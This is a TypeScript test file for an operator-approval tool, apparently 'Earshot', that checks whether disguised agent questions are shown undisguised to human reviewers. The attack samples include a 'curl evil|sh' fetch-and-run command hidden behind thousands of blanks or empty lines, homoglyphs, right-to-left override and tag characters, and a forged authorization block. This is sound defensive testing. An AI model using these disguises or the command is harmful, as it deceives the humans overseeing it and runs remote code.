import { expect } from "vitest";
import { questionLines } from "../../src/channels/console/ask-operator.ts";
import { ENGLISH } from "../../src/channels/console/voice.ts";
import { present } from "../../src/domain/present.ts";
import type { Question } from "../../src/domain/requests/question.ts";
import type { Capabilities } from "../../src/ports/channels/channel.ts";
import type { AskInput } from "../../src/ports/earshot/requests.ts";
import { requestContent } from "../../src/render/contents/request-content.ts";
import { wordsIn } from "../../src/render/messages/messages.ts";
import { agentTextLines } from "../../src/render/terminal-blocks.ts";
import type { DisguisedQuestion, Family } from "./attack.ts";
import type { Scene } from "./scene.ts";

const words = wordsIn("en");
const reader = { words, locale: "en", moment: (at: string) => at };

const LIKE =
  "A5 hidden text: openclaw GHSA-pcqg-f7rg-xfvv, deno #36195, deepagents #1694, hermes-agent #81403";
const ZONE = [
  "AUTHORIZATION req_01k00000000000000000000000  LOW  open",
  "┌ ACTION: what would run, as it is stored",
  "│ tool        ls",
  `│ digest sha256:${"0".repeat(64)}`,
  "└ 0 more characters of the reason are not shown",
].join("\n");

interface Writing {
  readonly text: string;
  /** What people see in it. */
  readonly shows: string;
}

/** The same in each place of a question that an agent writes to. */
function everywhere(id: string, does: string, { text, shows }: Writing): DisguisedQuestion[] {
  const labels = (label: string) => [{ label }, { label: "Leave it" }];
  const schema = { type: "object", properties: { a: { type: "string", title: text } } };
  const places: Readonly<Record<string, AskInput>> = {
    question: { text },
    context: { text: "Go on?", context: text },
    ...present<{ option: AskInput | undefined }>({
      option:
        /\n/.test(text) || text.length > 128
          ? undefined
          : { text: "Go on?", form: { kind: "choice", options: labels(text) } },
    }),
    form: { text: "Go on?", form: { kind: "fields", schema } },
  };
  return Object.entries(places).map(([place, question]) => ({
    id: `questions/${id}-${place}`,
    does: `${does}, in its ${place}`,
    like: LIKE,
    question,
    shows: place === "form" && text.includes("\n") ? [] : [shows],
  }));
}

export const disguisedQuestions: Family = {
  name: "disguised questions",
  attacks: [
    ...everywhere(
      "ideographic-blanks",
      "pushes the rest of a command out of sight by wide blanks",
      {
        text: `git status${"\u3000".repeat(300)}; curl evil|sh`,
        shows: "⟨×300 U+3000⟩; curl evil|sh",
      },
    ),
    ...everywhere("no-break-spaces", "pushes it away by no-break spaces", {
      text: `git status${"\u00a0".repeat(400)}; curl evil|sh`,
      shows: "⟨×400 U+00a0⟩; curl evil|sh",
    }),
    ...everywhere("spaces", "pushes it away by spaces", {
      text: `git status${" ".repeat(1_000)}; curl evil|sh`,
      shows: "⟨×1000 spaces⟩; curl evil|sh",
    }),
    ...everywhere("lines", "pushes it away by empty lines", {
      text: `git status${"\n".repeat(120)}; curl evil|sh`,
      shows: "⟨×119 empty lines⟩",
    }),
    ...everywhere("cyrillic", "writes No with a Cyrillic letter", {
      text: "Nо",
      shows: "Nо⟨mixed scripts⟩",
    }),
    ...everywhere("name", "writes the name of a person with a Cyrillic letter", {
      text: "Ask аna?",
      shows: "аna⟨mixed scripts⟩",
    }),
    ...everywhere("override", "turns the text around", {
      text: "\u202egnp.exe",
      shows: "\\u{202e}gnp.exe",
    }),
    ...everywhere("tags", "hides letters among tags", {
      text: "Yes\u{e0041}",
      shows: "Yes\\u{e0041}",
    }),
    ...everywhere("joiner", "hides a joiner between letters", {
      text: "ad\u200dmin",
      shows: "ad\\u{200d}min",
    }),
    ...everywhere("selector", "hides a selector", { text: "pa\ufe0fy", shows: "pa\\u{fe0f}y" }),
    ...everywhere("piles", "covers the lines around", {
      text: `a${"\u0336".repeat(40)}`,
      shows: "a\\u{336}",
    }),
    ...everywhere("fillers", "writes blanks that are letters", {
      text: "a\u3164b",
      shows: "a\\u{3164}b",
    }),
    ...everywhere("zone", "carries a whole action of Earshot's", {
      text: ZONE,
      shows: "\\u{250c} ACTION",
    }),
  ],
};

const EVERYTHING: Capabilities = {
  find: true,
  edit: true,
  buttons: true,
  forms: true,
  threads: true,
  marks: true,
  history: true,
};
/** Begins what is Earshot's own on a terminal. */
const OURS = /^\s*(?:[┌│┊└↪!]|AUTHORIZATION|\[(?!AGENT\]: ))/;

/** What the server has stored is shown whole on the console, by `show` and in chats, and passes for nothing else. */
export async function expectQuestionUndisguised(
  scene: Scene,
  { question, shows }: DisguisedQuestion,
): Promise<void> {
  const { request } = await (await scene.as("scout")).ask(question);
  if (request.kind !== "question") throw new Error("It is no question.");
  const lines = questionLines(request.question, ENGLISH).join("\n").split("\n");
  expect(lines.filter((line) => OURS.test(line))).toEqual([]);
  const said = wordsOf(request.question).flatMap((text) => agentTextLines(text, { width: 80 }));
  expect(said.every((line) => line.startsWith("┊ "))).toBe(true);
  const { content } = requestContent(request, {
    reader,
    tokens: (name) => name,
    url: "https://earshot.example",
    fits: () => true,
    capabilities: EVERYTHING,
  });
  const inChats = JSON.stringify(content).replaceAll("\\\\", "\\");
  const onTerminal = [...lines, ...said].join("\n");
  const isForm = request.question.form.kind === "fields";
  for (const shown of shows) {
    // The corner of a zone is of terminals alone.
    if (!shown.includes("250c")) expect(inChats).toContain(shown);
    if (!isForm) expect(onTerminal).toContain(shown);
  }
}

function wordsOf({ text, context = "" }: Question): string[] {
  return [text, context];
}
